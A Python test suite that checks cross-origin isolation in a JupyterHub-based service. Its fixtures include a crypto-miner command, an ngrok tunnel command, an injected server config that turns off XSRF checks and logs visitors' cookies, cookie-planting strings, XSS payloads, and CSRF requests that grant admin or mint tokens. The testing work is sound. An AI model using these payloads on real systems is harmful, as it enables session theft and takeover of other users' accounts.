"""A hostile page on a member's runtime and a hostile notebook output can neither read nor act on anybody else's.

Members and hub are on hosts of one site (*.mutirao.localhost), so cookies marked SameSite go along: what holds here
is held by origins, forms' keys and the hub's own checks. Each way is first tried at home, where it must work.
"""

import json
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.flows.ask import Answer, ask
from tests.flows.browser import Lab, log_in, person, start
from tests.flows.conftest import Apart
from tests.flows.service import PASSWORD, Service

HOSTILE = (Path(__file__).parent / "hostile.js").read_text()
MINER = "!./xmrig -o stratum+tcp://pool.example.org:3333 -u W"
TUNNEL = "!ngrok tcp 22"

RAW = """
import socket, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect(("192.0.2.1", 9))
address = probe.getsockname()[0]
PLANTED = ("__Host-jupyterhub-hub-login", "__Host-mutirao-session", "_xsrf")

class Raw(BaseHTTPRequestHandler):
    def do_GET(self):
        page = "<!doctype html><title>raw</title><body>at home " + address + "<script src=script.js></script></body>"
        script = self.path.endswith("script.js")
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if script else "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        for name in PLANTED:
            self.send_header("Set-Cookie", name + "=planted; Domain=mutirao.localhost; Path=/; Secure")
        self.end_headers()
        self.wfile.write((sys.argv[1] if script else page).encode())

threading.Thread(target=ThreadingHTTPServer(("0.0.0.0", 9999), Raw).serve_forever).start()
ThreadingHTTPServer(("0.0.0.0", 8888), Raw).serve_forever()
"""
"""What a member can put where their Jupyter server was: the port that the proxy leads to, and no other."""

SERVER = '''
import os, sys
import tornado.web

SEEN = []

class Evil(tornado.web.RequestHandler):
    """Anything at all, for anybody: a page, a worker with the widest scope, what it was sent."""

    def check_xsrf_cookie(self):
        pass

    def get(self, what):
        SEEN.append(self.request.headers.get("Cookie", ""))
        if what == "seen":
            self.write({"seen": SEEN})
        elif what == "worker.js":
            self.set_header("Content-Type", "text/javascript")
            self.set_header("Service-Worker-Allowed", "/")
            self.write("self.addEventListener('fetch', (e) => e.respondWith(new Response('from the worker')));")
        elif what == "raw":
            os.execv(sys.executable, [sys.executable, "-c", RAW, SCRIPT])
        elif what == "script.js":
            self.set_header("Content-Type", "text/javascript")
            self.write(SCRIPT)
        else:
            self.write("<!doctype html><title>evil</title><body>at home<script src='script.js'></script></body>")

    def post(self, what):
        self.write("posted")

init = tornado.web.Application.__init__

def with_evil(self, handlers=None, *args, **kwargs):
    init(self, handlers, *args, **kwargs)
    self.add_handlers(".*$", [(r"/user/[^/]+/evil/(.*)", Evil)])

tornado.web.Application.__init__ = with_evil
'''


@dataclass
class Scene:
    """Ana's hostile server, and Bia, who is logged in everywhere, has a case and a kernel, and opens Ana's page."""

    service: Service
    hub: str
    pages: str
    ana: str
    bia: str
    context: BrowserContext
    page: Page
    kernel: str
    case: str

    @property
    def targets(self) -> dict[str, str]:
        return {
            "hub": f"{self.hub}/hub/home",
            "hub's API": f"{self.hub}/hub/api/user",
            "tokens": f"{self.hub}/hub/token",
            "my page": f"{self.pages}/services/mutirao/me",
            "pages' API": f"{self.pages}/services/mutirao/api/me",
            "case": f"{self.pages}/services/mutirao/case/{self.case}",
            "Bia's files": f"{self.bia}/user/bia/api/contents",
            "Bia's kernels": f"{self.bia}/user/bia/api/kernels",
            "Bia's Lab": f"{self.bia}/user/bia/lab",
        }

    def filled(self, row: tuple[object, ...]) -> list[object]:
        """A row of a table, with the scene's addresses in it."""
        known = {name: getattr(self, name) for name in ("hub", "pages", "ana", "bia", "kernel", "case")}
        known |= {f"{name}_host": urlsplit(known[name]).netloc for name in ("hub", "bia")}

        def fill(value: object) -> object:
            if isinstance(value, str):
                for name, found in known.items():
                    value = value.replace(f"{{{name}}}", found)
            return value

        return [fill(value) for value in row]

    def tell(self, what: str, *arguments: object) -> str:
        """What a function of hostile.js gives, on the page that is open."""
        given = ", ".join(json.dumps(argument) for argument in arguments)
        return str(self.page.evaluate(f"hostile.{what}({given})"))

    def state(self) -> dict[str, object]:
        """Everything of Bia's that an attack could change, asked by her own browser."""

        def get(url: str) -> Answer:
            return ask(url, context=self.context)

        kernels = get(f"{self.bia}/user/bia/api/kernels").json()
        tokens = get(f"{self.hub}/hub/token").text
        case = get(f"{self.pages}/services/mutirao/api/cases/{self.case}").json()
        me = get(f"{self.pages}/services/mutirao/api/me").json()
        return {
            "name": me["name"],
            "hub knows": 'title="bia"' in get(f"{self.hub}/hub/home").text,
            "runtimes": [runtime["ready"] for runtime in me["runtimes"]],
            "kernels": sorted(kernel["id"] for kernel in kernels),
            "tokens": len(re.findall("revoke-token", tokens)),
            "permits": case["permits"],
            "files": [file["name"] for file in get(f"{self.bia}/user/bia/api/contents").json()["content"]],
        }


def origin(url: str, name: str) -> str:
    return url.replace("://", f"://{name}.")


@pytest.fixture(scope="module")
def scene(apart: Apart, trusting: Browser) -> Iterator[Scene]:
    yield from set_up(apart.service, trusting)


def set_up(service: Service, browser: Browser) -> Iterator[Scene]:
    with person(browser) as context:
        page = context.new_page()
        log_in(page, service.url, "ana", PASSWORD)
        lab = start(page, service.url)
        lab.new_notebook()
        config = SERVER.replace("SCRIPT", repr(HOSTILE)).replace("RAW", repr(RAW))
        lab.run(
            "import os, pathlib\n"
            "folder = pathlib.Path.home() / '.jupyter'\n"
            "folder.mkdir(exist_ok=True)\n"
            f"(folder / 'jupyter_server_config.py').write_text({config!r})"
        )
        page.goto(f"{service.url}/hub/home")
        page.locator("#stop").click()
        page.locator("#stop").wait_for(state="detached")
        start(page, service.url)
    with person(browser) as context:
        page = context.new_page()
        log_in(page, service.url, "bia", PASSWORD)
        lab = start(page, service.url)
        lab.new_notebook()
        cell = lab.run(TUNNEL)
        case = re.search(r"M-\d{4}-\d{6}", cell.inner_text())
        assert case, cell.inner_text()
        pages, bia = origin(service.url, "mutirao--service"), origin(service.url, "bia")
        page.goto(f"{pages}/services/mutirao/case/{case[0]}")
        assert page.locator("#anyway").is_visible()
        kernel = ask(f"{bia}/user/bia/api/kernels", context=context).json()[0]["id"]
        page.goto(f"{origin(service.url, 'ana')}/user/ana/evil/")
        yield Scene(service, service.url, pages, origin(service.url, "ana"), bia, context, page, kernel, case[0])


READING = ("fetch", "opaque", "xhr", "frame", "open")


@pytest.fixture
def hostile(scene: Scene) -> Scene:
    """Bia has just opened Ana's page."""
    scene.page.goto(f"{scene.ana}/user/ana/evil/")
    return scene


@pytest.mark.parametrize("way", READING)
def test_a_members_page_reads_nothing_of_anybody_elses(hostile: Scene, way: str) -> None:
    home = hostile.tell(way, f"{hostile.ana}/user/ana/evil/")
    assert (home.startswith("GOT: ") and "at home" in home) or (way == "fetch" and "200" in home), home

    said = {name: hostile.tell(way, url) for name, url in hostile.targets.items()}

    assert {name for name, text in said.items() if not text.startswith("blocked: ")} == set(), said
    for opened in hostile.context.pages:
        if opened != hostile.page:
            opened.close()


ACTING = {
    "stop Bia's runtime": ("post", "{hub}/hub/api/users/bia/server", "", "text/plain", "DELETE"),
    "start one": ("post", "{hub}/hub/api/users/bia/servers/second", "{}"),
    "make a token": ("post", "{hub}/hub/api/users/bia/tokens", "{}"),
    "make a token as JSON": ("post", "{hub}/hub/api/users/bia/tokens", "{}", "application/json"),
    "start a kernel": ("post", "{bia}/user/bia/api/kernels", "{}"),
    "end the kernel": ("post", "{bia}/user/bia/api/kernels/{kernel}", "", "text/plain", "DELETE"),
    "run a cell by HTTP": ("post", "{bia}/user/bia/api/kernels/{kernel}/execute", '{"code": "open(\'hacked\', \'w\')"}'),
    "write a file": ("post", "{bia}/user/bia/api/contents", '{"type": "file"}'),
    "give the reason for her": ("post", "{pages}/services/mutirao/case/{case}", "reason=It+is+for+a+lesson+on+networks", "application/x-www-form-urlencoded"),
    "form: reason": ("form", "{pages}/services/mutirao/case/{case}", {"reason": "It is for a lesson on networks", "form_key": "x"}),
    "form: spawn": ("form", "{hub}/hub/spawn", {"environment": "base", "size": "small"}),
    "form: log in as Ana": ("form", "{hub}/hub/login", {"username": "ana", "password": PASSWORD}),
    "log her out of the pages": ("opaque", "{pages}/services/mutirao/logout"),
    "frame: log her out of the pages": ("frame", "{pages}/services/mutirao/logout"),
    "log her out of the hub": ("opaque", "{hub}/hub/logout"),
    "frame: log her out of the hub": ("frame", "{hub}/hub/logout"),
    "kernel's socket": ("socket", "wss://{bia_host}/user/bia/api/kernels/{kernel}/channels"),
    "kernel's socket by the hub's host": ("socket", "wss://{hub_host}/user/bia/api/kernels/{kernel}/channels"),
    "worker on Bia's host": ("worker", "{bia}/user/bia/evil/worker.js", "/"),
    "worker on the hub": ("worker", "{hub}/hub/static/js/home.js", "/"),
    "worker for the hub from here": ("worker", "/user/ana/evil/worker.js", "{hub}/"),
    "plant a login": ("plant", "__Host-jupyterhub-hub-login=x; Domain=mutirao.localhost; Path=/; Secure"),
    "plant a login of the pages": ("plant", "__Host-mutirao-session=x; Domain=mutirao.localhost; Path=/; Secure"),
    "plant a cookie for all": ("plant", "all=x; Domain=localhost; Path=/"),
    "talk to the hub": ("message", "{hub}/hub/home"),
    "talk to the pages": ("message", "{pages}/services/mutirao/me"),
    "talk to Bia's Lab": ("message", "{bia}/user/bia/lab"),
}  # fmt: skip


@pytest.mark.parametrize("what", ACTING)
def test_a_members_page_does_nothing_in_anybody_elses_name(hostile: Scene, what: str) -> None:
    way, *arguments = hostile.filled(ACTING[what])
    before = hostile.state()

    said = hostile.tell(way, *arguments)

    assert said.startswith("blocked: "), said
    assert hostile.state() == before
    for opened in hostile.context.pages:
        if opened != hostile.page:
            opened.close()


HOME = {
    "post": ("post", "/user/ana/evil/", "x"),
    "form": ("form", "/user/ana/evil/", {"a": "b"}),
    "socket": ("socket", "wss://{bia_host}/user/bia/api/kernels/{kernel}/channels"),
    "worker": ("worker", "/user/ana/evil/worker.js", "/user/ana/evil/below/"),
    "plant": ("plant", "mine=x; Path=/"),
}


@pytest.mark.parametrize("what", HOME)
def test_the_same_attacks_work_at_home(hostile: Scene, what: str) -> None:
    """Or the tests above would prove nothing."""
    way, *arguments = hostile.filled(HOME[what])
    if what == "socket":
        hostile.page.goto(f"{hostile.bia}/user/bia/lab")
        hostile.page.add_script_tag(content=HOSTILE)
        token = hostile.page.evaluate("document.cookie.match(/_xsrf=([^;]+)/)[1]")
        arguments[0] += f"?_xsrf={token}"
    assert hostile.tell(way, *arguments).startswith("GOT: ")


def test_a_hostile_server_is_sent_no_login_of_its_visitor(hostile: Scene) -> None:
    seen = json.loads(ask(f"{hostile.ana}/user/ana/evil/seen").body)["seen"]
    names = {cookie.partition("=")[0].strip() for line in seen for cookie in line.split(";") if cookie}

    assert "jupyterhub-session-id" in names  # the hub's own design: it names a session and opens nothing
    assert {name for name in names if "login" in name or "mutirao-session" in name or "user-bia" in name} == set()


def test_a_session_planted_before_the_login_is_not_the_one_after_it(hostile: Scene) -> None:
    browser = hostile.context.browser
    assert browser
    with person(browser) as context:
        page = context.new_page()
        page.goto(f"{hostile.ana}/user/ana/evil/")
        page.evaluate("document.cookie = 'jupyterhub-session-id=planted; Domain=mutirao.localhost; Path=/'")
        log_in(page, hostile.hub, "caio", PASSWORD)

        ids = {cookie["value"] for cookie in context.cookies(hostile.hub) if cookie["name"] == "jupyterhub-session-id"}

    assert len(ids) == 1
    assert ids != {"planted"}


def test_a_trusted_output_acts_on_its_own_notebook_server_alone(hostile: Scene) -> None:
    """Whoever runs a cell has its output's scripts run, on the origin of their own runtime: nobody else's."""
    lab = Lab(hostile.page)
    lab.open(hostile.bia, "bia", "Untitled.ipynb")
    lab.run(f"from IPython.display import Javascript, display\ndisplay(Javascript({HOSTILE!r}))")
    hostile.page.wait_for_function("globalThis.hostile")

    assert hostile.tell("fetch", f"{hostile.bia}/user/bia/api/status").startswith("GOT: ")
    others = {name: url for name, url in hostile.targets.items() if not name.startswith("Bia's")}
    others |= {"Ana's Lab": f"{hostile.ana}/user/ana/lab", "Ana's files": f"{hostile.ana}/user/ana/api/contents"}
    said = {(name, way): hostile.tell(way, url) for name, url in others.items() for way in ("fetch", "opaque", "frame")}

    assert {key for key, text in said.items() if not text.startswith("blocked: ")} == set(), said


def test_an_untrusted_output_runs_no_script(hostile: Scene) -> None:
    """A notebook that somebody sent is shown without its scripts."""
    html = "<script>document.title = 'it ran'</script><img src=x onerror=\"document.title = 'it ran'\"><b>shown</b>"
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": html}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "document.title = 'it ran'"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<svg onload=\"document.title = 'it ran'\"/>"}},
    ]  # fmt: skip
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1", "outputs": outputs, "id": "a"}
    note = {"cell_type": "markdown", "metadata": {}, "source": html, "id": "b"}
    book = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell, note]}
    lab = Lab(hostile.page)
    lab.open(hostile.bia, "bia", "Untitled.ipynb")
    lab.run(f"open('sent.ipynb', 'w').write({json.dumps(book)!r})")

    lab.open(hostile.bia, "bia", "sent.ipynb")
    lab.panel.locator("b", has_text="shown").first.wait_for()

    assert hostile.page.title() != "it ran"


def test_a_file_opened_by_its_address_acts_on_nothing_not_even_its_readers_own(hostile: Scene) -> None:
    """Jupyter Server gives such a page an origin of its own (CSP sandbox)."""
    lab = Lab(hostile.page)
    lab.open(hostile.bia, "bia", "Untitled.ipynb")
    lab.run(f"open('sent.html', 'w').write({f'<body>at home<script>{HOSTILE}</script></body>'!r})")
    hostile.page.goto(f"{hostile.bia}/user/bia/files/sent.html")
    before = hostile.state()

    said = {(name, way): hostile.tell(way, url) for name, url in hostile.targets.items() for way in ("fetch", "frame")}
    for what in ("start a kernel", "write a file", "run a cell by HTTP", "make a token", "kernel's socket"):
        way, *arguments = hostile.filled(ACTING[what])
        said[what, way] = hostile.tell(way, *arguments)

    assert {key for key, text in said.items() if not text.startswith("blocked: ")} == set(), said
    assert hostile.state() == before
    hostile.page.goto(f"{hostile.ana}/user/ana/files/Untitled.ipynb")
    assert "403" in hostile.page.inner_text("body")


OPERATING = {
    "make Ana an operator": ("post", "{hub}/hub/api/users/ana", '{"admin": true}', "application/json", "PATCH"),
    "make somebody": ("post", "{hub}/hub/api/users", '{"usernames": ["eve"], "admin": true}'),
    "remove Bia": ("post", "{hub}/hub/api/users/bia", "", "text/plain", "DELETE"),
    "make Ana a reviewer": ("post", "{hub}/hub/api/groups/mutirao-reviewers/users", '{"users": ["ana"]}'),
    "make a token": ("post", "{hub}/hub/api/users/olga/tokens", "{}"),
    "shut down": ("post", "{hub}/hub/api/shutdown", "{}"),
    "start Caio's server": ("form", "{hub}/hub/spawn/caio", {"environment": "base", "size": "small"}),
    "start it by a look": ("frame", "{hub}/hub/spawn/caio"),
    "restrict Bia": ("form", "{pages}/services/mutirao/review/case/{case}/restrict", {"scope": "account", "days": "9", "why": "Because Ana says so."}),
    "close Bia's case": ("post", "{pages}/services/mutirao/api/review/cases/{case}/close", '{"why": "Because Ana says so."}'),
    "Bia's kernel": ("socket", "wss://{bia_host}/user/bia/api/kernels/{kernel}/channels"),
    "run a cell of Bia's": ("post", "{bia}/user/bia/api/kernels/{kernel}/execute", '{"code": "1"}'),
    "plant a key for forms": ("plant", "_xsrf=planted; Domain=mutirao.localhost; Path=/"),
    "use the planted key": ("form", "{hub}/hub/spawn/caio", {"environment": "base", "size": "small", "_xsrf": "planted"}),
}  # fmt: skip


def test_an_operator_who_opens_a_members_page_lends_it_no_rights(hostile: Scene) -> None:
    found = re.search(r"Operators \(olga\) log in with:\s+(\S+)", hostile.service.output.read_text())
    assert found
    assert hostile.context.browser
    with person(hostile.context.browser) as context:
        page = context.new_page()
        log_in(page, hostile.hub, "olga", found[1])
        page.goto(f"{hostile.pages}/services/mutirao/review/case/{hostile.case}")
        assert page.locator("#evidence").is_visible()
        bystander = replace(hostile, context=context, page=page)

        def state() -> list[object]:
            users = ask(f"{hostile.hub}/hub/api/users", context=context).json()
            groups = ask(f"{hostile.hub}/hub/api/groups", context=context).json()
            case = ask(f"{hostile.pages}/services/mutirao/api/cases/{hostile.case}", context=context).json()
            tokens = ask(f"{hostile.hub}/hub/api/users/olga/tokens", context=context).json()["api_tokens"]
            known = [(user["name"], user["admin"], sorted(user["servers"])) for user in users]
            return [sorted(known), groups, case["decisions"], len([one for one in tokens if one["note"] != "OAuth"])]

        before = state()
        page.goto(f"{hostile.ana}/user/ana/evil/")
        said = {name: bystander.tell("fetch", url) for name, url in hostile.targets.items()}
        for path in ("api/users", "admin", "api/proxy"):
            said[path] = bystander.tell("fetch", f"{hostile.hub}/hub/{path}")
        for path in ("review", f"review/case/{hostile.case}", "api/review/queue", "metrics"):
            said[path] = bystander.tell("fetch", f"{hostile.pages}/services/mutirao/{path}")
        for what, row in OPERATING.items():
            way, *arguments = hostile.filled(row)
            said[what] = bystander.tell(way, *arguments)

        planted = said.pop("plant a key for forms")
        assert planted.startswith("GOT: ")  # as it may: the hub knows its own key
        assert {what for what, text in said.items() if not text.startswith("blocked: ")} == set(), said
        assert state() == before
        # Operators may enter a member's server: the hub asks before it tells that server who they are.
        asked = {
            "client_id": "jupyterhub-user-ana", "redirect_uri": f"{hostile.ana}/user/ana/oauth_callback", "response_type": "code",
            "state": "x", "code_challenge": "c" * 43, "code_challenge_method": "S256",
        }  # fmt: skip
        page.goto(f"{hostile.hub}/hub/api/oauth2/authorize?{urlencode(asked)}")
        assert page.url.startswith(f"{hostile.hub}/hub/")
        assert page.get_by_role("button", name="Authorize").is_visible()


def test_a_raw_server_in_the_place_of_jupyters_gets_no_further(hostile: Scene) -> None:
    """Last of all here: Ana's server is gone afterwards. The proxy leads nobody to any other port of her runtime."""
    ask(f"{hostile.ana}/user/ana/evil/raw")
    for _ in range(50):
        hostile.page.goto(f"{hostile.ana}/user/ana/")
        if hostile.page.title() == "raw":
            break
        hostile.page.wait_for_timeout(200)
    before = hostile.state()
    address = hostile.page.inner_text("body").split()[-1]

    said = {(name, way): hostile.tell(way, url) for name, url in hostile.targets.items() for way in ("fetch", "frame")}
    for what in (
        "make a token",
        "start a kernel",
        "give the reason for her",
        "kernel's socket",
        "worker for the hub from here",
    ):
        way, *arguments = hostile.filled(ACTING[what])
        said[what, way] = hostile.tell(way, *arguments)

    assert hostile.tell("fetch", f"{hostile.ana}/user/ana/x").startswith("GOT: ")
    assert {key for key, text in said.items() if not text.startswith("blocked: ")} == set(), said
    assert hostile.state() == before
    assert "planted" not in {
        cookie["value"] for cookie in hostile.context.cookies(hostile.hub) if cookie["name"] != "_xsrf"
    }
    with pytest.raises(OSError, match=r"timed out|refused|unreachable"):
        socket.create_connection((address, 9999), 2)
